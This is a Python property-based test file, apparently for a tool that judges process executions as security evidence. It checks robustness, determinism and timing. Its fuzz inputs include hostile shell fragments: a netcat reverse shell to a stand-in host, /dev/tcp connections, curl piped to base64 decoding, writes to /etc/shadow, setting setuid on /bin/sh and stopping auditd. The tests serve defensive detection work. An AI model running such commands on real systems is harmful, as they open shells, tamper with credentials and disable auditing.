"""What holds for every record, however hostile its bytes."""

from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pyloader.evidence.process import MOST
from pyloader.evidence.programs import names
from pyloader.evidence.shell import pipelines
from pyloader.records import Stdio
from tests.unit.evidence.stage import Stage

WORDS = sorted(
    names(
        "sh bash -c sudo find -exec python3 -e curl | base64 -d nc /dev/tcp/h/1 $(curl ` $( ) ' \" \\ ; > /etc/shadow"
        " nginx busybox env = chmod u+s /bin/sh <( && -- - [x] systemctl stop auditd \udcff \x01 openssl s_client"
    )
)
TEXT = st.text(st.characters(exclude_characters="\0", codec="utf-8"), max_size=60)
WORD = st.sampled_from(WORDS) | TEXT
ARGV = st.lists(WORD, max_size=8)
STREAM = st.sampled_from(list(Stdio)).filter(lambda kind: kind is not Stdio.PIPE) | st.integers(1, 4)


@given(st.lists(st.tuples(ARGV, WORD, STREAM, STREAM, st.integers(0, 1023), st.booleans()), max_size=6))
def test_any_execution_is_judged(executions: list[tuple[list[str], str, Stdio | int, Stdio | int, int, bool]]) -> None:
    """No bytes make the stage fail; what it says is bounded in number, in weight and in length."""
    stage = Stage()
    process = stage.run(["bash"])
    for argv, name, stdin, stdout, flags, forks in executions:
        subject = stage.fork(process) if forks else process
        process = stage.execute(subject, argv, f"/usr/bin/{name}", stdin=stdin, stdout=stdout, flags=flags, uid=1000)
        assert all(0 < item.nats <= 12 and item.text.isprintable() and len(item.text) < 400 for item in stage.last)
        per_process = Counter(item.entity.label for item in stage.last)
        assert max(per_process.values(), default=0) <= MOST
        assert len({(item.entity.label, item.code) for item in stage.last}) == len(stage.last)


@given(st.lists(ARGV.filter(bool), max_size=5))
def test_the_same_records_give_the_same_evidence(commands: list[list[str]]) -> None:
    """Two instances that are given the same records say the same."""
    said = []
    for _ in range(2):
        stage = Stage()
        parent = stage.run(["bash"])
        words = []
        for argv in commands:
            stage.run(argv, parent)
            words.append([(item.code, item.nats, item.text) for item in stage.last])
        said.append(words)
    assert said[0] == said[1]


@given(st.lists(WORD, max_size=30).map(" ".join))
def test_any_shell_code_is_read(code: str) -> None:
    """Whatever stands in shell code, its reader ends, and yields words of that code."""
    assert all(pipelines(code))


@pytest.mark.parametrize(
    "unit",
    [
        "<",
        "2>",
        "!sh<1",
        "'",
        '"',
        '"\\',
        "$(",
        "`",
        "( ",
        "${a",
        "|",
        "sh -i ",
        "; sh ",
        "\\x4",
        "a''b",
        "A1b",
        "< 1 ",
    ],
)
def test_no_argument_takes_long(unit: str) -> None:
    """The longest argument of a record is judged in time that grows with its length alone.

    A search that tried every way to divide these arguments would not end within the life of the test.
    """
    stage = Stage()
    long = (unit * 4096)[:4000]
    for argv in (["sh", "-c", f"/dev/tcp/h/1 {long}"], ["sh", "-c", f"curl {long}"], ["python3", "-c", f"sh {long}"]):
        stage.run(argv)
    for argv in (["vim", "-c", f"!sh {long}"], ["tar", f"--x=/bin/sh {long}"], ["env", long, "sh"]):
        stage.sudo(argv)


def test_forks_and_exits_say_nothing(stage: Stage) -> None:
    """Evidence comes from what a process executes, not from its being there."""
    process = stage.run(["nc", "-e", "/bin/sh", "h", "1"])
    stage.fork(process)
    assert not stage.last
    stage.exit(process)
    assert not stage.last
